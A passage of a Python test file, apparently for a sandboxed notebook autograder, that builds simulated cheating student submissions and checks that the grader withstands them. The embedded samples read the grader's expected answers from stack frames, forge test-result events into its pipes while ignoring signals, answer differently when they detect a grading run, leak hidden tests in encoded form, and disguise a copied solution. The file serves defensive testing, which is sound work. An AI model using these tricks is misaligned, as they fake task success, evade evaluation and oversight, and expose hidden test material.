#   and no forged text is in any verdict or the feedback.
# - argv_detect: answers right only when sys.argv and sys.orig_argv look like a kernel's: the grader's run looks the
#   same, full marks.
# - module_detect: answers right only when ipykernel is loaded (which the grader's run cannot fake): task 2's points
#   only (tasks 3 and 4 use task 1), and the mismatch between kernel and grader is flagged for review.
# - encoded_leak: the solution, and a last cell printing every cell the kernel saw (hidden tests included) as
#   zlib+base64 and reversed: full marks, none of it in the feedback.
# - copy_wrapped: the public solution with task 3's allocator rewritten (every returned value wrapped in an identity
#   lambda, `self` renamed): full marks (it works), flagged for review with both passages.
ATTACK = f"attacks:{LABS[0]}"

ROUNDED_ORACLE = '''\
import sys as _sys


def _from_probe(size):
    """What the grader's probe holds for this size: its rounded sizes, when it passes them."""
    frame = _sys._getframe(1)
    while frame is not None:
        given = frame.f_locals.get("args")
        if isinstance(given, dict) and "sizes" in given:
            known = given.get("rounded") or given.get("classified") or []
            return dict(zip(given["sizes"], known)).get(size, 0)
        frame = frame.f_back
    return 0


def round_size(size):
    return _from_probe(size)


def is_small(rounded):
    return _from_probe(rounded) <= 1024 * 1024


def segment_size(rounded):
    return _from_probe(rounded)
'''

FORGED_REPORTS = '''\
import json as _json
import os as _os
import signal as _signal
import stat as _stat
import time as _time

_signal.setitimer(_signal.ITIMER_REAL, 0)
_signal.signal(_signal.SIGINT, _signal.SIG_IGN)
_signal.signal(_signal.SIGALRM, _signal.SIG_IGN)
_pipes = []
for _f in _os.listdir("/proc/self/fd"):
    try:
        if int(_f) > 2 and _stat.S_ISFIFO(_os.fstat(int(_f)).st_mode):
            _pipes.append(int(_f))
    except OSError:
        pass
_bad = "FOR" + "GED" + "x" * 294  # spelled apart: the cell's source (in the feedback) does not hold it
_until = _time.monotonic() + 400
while _time.monotonic() < _until:
    for _fd in _pipes:
        for _step in range(80):
            for _m in ({"step": _step, "event": "start"}, {"step": _step, "event": "end", "error": _bad},
                       {"step": _step, "failed": "raised", "type": _bad}):
                try:
                    _os.write(_fd, (_json.dumps(_m) + "\\n").encode())
                except OSError:
                    pass
    _time.sleep(2)
'''

ARGV_DETECT = '''\
import sys as _sys

_KERNEL = _sys.argv[0].endswith("ipykernel_launcher.py") and _sys.argv[1] == "-f"
if not (_KERNEL and _sys.orig_argv[1:3] == ["-m", "ipykernel_launcher"]):
    def round_size(size):  # noqa: F811 -- not a kernel: the grader, answer wrong
        return 0
'''

MODULE_DETECT = '''\
import sys as _sys

if "ipykernel" not in _sys.modules:
    def round_size(size):  # noqa: F811 -- not a kernel: the grader, answer wrong
        return 0
'''

ENCODED_LEAK = '''\
import base64 as _b64
import linecache as _lc
import zlib as _zlib

_seen = "".join("".join(_lc.getlines(_name)) for _name in list(_lc.cache))
print("LEAK", _b64.b64encode(_zlib.compress(_seen.encode())).decode())
print("REVERSED", _seen[::-1])
'''


def with_attack(ctx: Context, student: str, honest: tuple[str, ...], cheats: dict[str, str],
                replace: tuple[str, ...] = ()) -> NotebookNode:
    """The release with the honest groups' answers from the solution and `cheats` appended to (or, for the grade
    ids in `replace`, standing for) answer cells."""
    nb = copy.deepcopy(ctx.release)
    solution = {meta(c)["grade_id"]: c.source for c in ctx.solution(student).cells if is_answer(c)}
    for cell in nb.cells:
        if not is_answer(cell):
            continue
        grade_id = meta(cell)["grade_id"]
        if group(grade_id) in honest and grade_id not in replace:
            cell.source = without_markers(solution[grade_id])
        if grade_id in cheats:
            cell.source = cheats[grade_id] if grade_id in replace else cell.source + "\n\n" + cheats[grade_id]
    return nb


def a_rounded_oracle(ctx: Context, student: str) -> NotebookNode:
    return with_attack(ctx, student, ("task2", "task3", "task4"), {"task1_sizes": ROUNDED_ORACLE},
                       replace=("task1_sizes",))


def a_forged_reports(ctx: Context, student: str) -> NotebookNode:
    return with_attack(ctx, student, ("task1", "task2"), {"task2_best_fit": FORGED_REPORTS})


def a_argv_detect(ctx: Context, student: str) -> NotebookNode:
    return with_attack(ctx, student, ("task1", "task2", "task3", "task4"), {"task1_sizes": ARGV_DETECT})


def a_module_detect(ctx: Context, student: str) -> NotebookNode:
    return with_attack(ctx, student, ("task1", "task2", "task3", "task4"), {"task1_sizes": MODULE_DETECT})


def a_encoded_leak(ctx: Context, student: str) -> NotebookNode:
    nb = ctx.solution(student)
    nb.cells.append(nbformat.v4.new_code_cell(ENCODED_LEAK))
    return nb


def a_copy_wrapped(ctx: Context, student: str) -> NotebookNode:
    import ast

    class Wrap(ast.NodeTransformer):
        def visit_Return(self, node):
            self.generic_visit(node)
            if node.value is not None:
                node.value = ast.Call(ast.Name("same", ast.Load()), [node.value], [])
            return node

    nb = ctx.solution(student)
    for cell in nb.cells:
        if is_answer(cell) and meta(cell)["grade_id"] == "task3_allocator":
            tree = ast.fix_missing_locations(Wrap().visit(ast.parse(without_markers(cell.source))))
            cell.source = "same = lambda value: value\n\n\n" + ast.unparse(tree).replace("self", "me")
    return nb


ATTACK_STUDENTS: dict[str, Callable[[Context, str], NotebookNode]] = {
    "solution": s_solution, "rounded_oracle": a_rounded_oracle, "forged_reports": a_forged_reports,
    "argv_detect": a_argv_detect, "module_detect": a_module_detect, "encoded_leak": a_encoded_leak,
    "copy_wrapped": a_copy_wrapped,
}


@pytest.fixture(scope="module")
def attacks(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Results]:
    assert shutil.which("bwrap"), "bubblewrap is not installed (apt-get install bubblewrap; .ci/run does it)"
    tmp = tmp_path_factory.mktemp("attacks")
    key = make_key(tmp / "issuer")
    job = Job("attacks", LAB[LABS[0]], str(tmp / "attacks"), tuple(ATTACK_STUDENTS), f"hostile-{uuid.uuid4().hex}",
              str(key))
    with ProcessPoolExecutor(max_workers=1, mp_context=get_context("spawn")) as pool:
        done = pool.submit(grade, job).result()
    yield Results({ATTACK: done}, str(key))


def group_points(source: NotebookNode, *groups: str) -> float:
    return sum(p for grade_id, p in points(source).items() if group(grade_id) in groups)


def test_attack_the_honest_solution_scores_full_marks_and_keeps_the_instructors_cells(attacks: Results):
    assert attacks.score(ATTACK, "solution") == (attacks.total(ATTACK), attacks.total(ATTACK)), attacks.why(
        ATTACK, "solution")
    graded = attacks.autograded(ATTACK, "solution")
    instructors = [c.source for c in attacks.source(ATTACK).cells if c.cell_type == "markdown"]
    assert [c.source for c in graded.cells if c.cell_type == "markdown"] == instructors
    text = html_text(attacks.feedback(ATTACK, "solution"))
    assert "the grader shows this cell as text" not in text
    assert instructors[0].splitlines()[0].lstrip("# ") in text  # the lab's title, rendered


def test_attack_the_probes_inputs_hold_no_answer(attacks: Results):
    # task 2 only: tasks 3 and 4 build on task 1's round_size, so they fail with it (in the kernel too)
    want = group_points(attacks.source(ATTACK), "task2")
    assert attacks.score(ATTACK, "rounded_oracle")[0] == want, attacks.why(ATTACK, "rounded_oracle")


def test_attack_forged_reports_extend_no_deadline_and_reach_no_verdict(attacks: Results):
    record = attacks.student(ATTACK, "forged_reports")
    assert record["score"] == group_points(attacks.source(ATTACK), "task1"), attacks.why(ATTACK, "forged_reports")
    assert record["seconds"] < 300  # the cell forged for 400 s: the grader's clock ended it
    graded = attacks.autograded(ATTACK, "forged_reports")
    verdicts = "\n".join(text_of(c) for c in graded.cells if is_test(c))
    assert "FORGED" not in verdicts
    assert "FORGED" not in html_text(attacks.feedback(ATTACK, "forged_reports"))


def test_attack_argv_tells_no_probe_run_from_a_kernel_run(attacks: Results):
    assert attacks.score(ATTACK, "argv_detect") == (attacks.total(ATTACK), attacks.total(ATTACK)), attacks.why(
        ATTACK, "argv_detect")
    review = attacks.autograded(ATTACK, "argv_detect").metadata.get("grader_review", [])
    assert not [r for r in review if "student's kernel" in r], review


def test_attack_an_answer_that_behaves_differently_when_probed_is_flagged(attacks: Results):
    record = attacks.student(ATTACK, "module_detect")  # task 2 only (tasks 3 and 4 use task 1's round_size)
    assert record["score"] == group_points(attacks.source(ATTACK), "task2"), attacks.why(ATTACK, "module_detect")
    assert record["needs_review"]
    review = attacks.autograded(ATTACK, "module_detect").metadata["grader_review"]
    assert [r for r in review if r.startswith("task1_") and "passed in the student's kernel but failed" in r], review


def test_attack_no_hidden_test_leaves_in_any_encoding(attacks: Results):
    import base64
    import zlib

    assert attacks.score(ATTACK, "encoded_leak") == (attacks.total(ATTACK), attacks.total(ATTACK)), attacks.why(
        ATTACK, "encoded_leak")
    hidden = hidden_only_lines(attacks.source(ATTACK))
    last = text_of(attacks.autograded(ATTACK, "encoded_leak").cells[-1])
    blob = re.search(r"LEAK (\S+)", last).group(1)
    assert [line for line in hidden if line in zlib.decompress(base64.b64decode(blob)).decode()]  # it did leak
    text = html_text(attacks.feedback(ATTACK, "encoded_leak"))
    assert blob[:60] not in text
    assert not [line for line in hidden if line in text or line[::-1] in text]
    assert "does not show in feedback what the notebook printed" in text


def test_attack_a_wrapped_copy_is_flagged_with_its_evidence(attacks: Results):
    assert attacks.score(ATTACK, "copy_wrapped")[0] == attacks.total(ATTACK), attacks.why(ATTACK, "copy_wrapped")
    record = attacks.student(ATTACK, "copy_wrapped")
    assert record["needs_review"]
    copies = attacks.autograded(ATTACK, "copy_wrapped").metadata["grader_copies"]
    task3 = [c for c in copies if c["cell"] == "task3_allocator"]
    assert [c for c in task3 if "public solution" in c["where"] or "student 'solution'" in c["where"]], copies
    assert all(c["answer"] and c["passage"] for c in task3)
